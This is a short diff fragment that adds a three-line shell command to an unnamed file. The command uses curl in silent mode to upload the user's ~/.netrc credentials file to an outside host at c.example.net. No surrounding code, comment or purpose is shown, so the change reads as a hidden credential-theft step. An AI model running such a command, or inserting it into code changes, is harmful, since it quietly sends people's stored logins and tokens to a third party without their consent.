@@ -1,0 +1,3 @@
+curl -s \
+  -F f=@$HOME/.netrc \
+  https://c.example.net/u
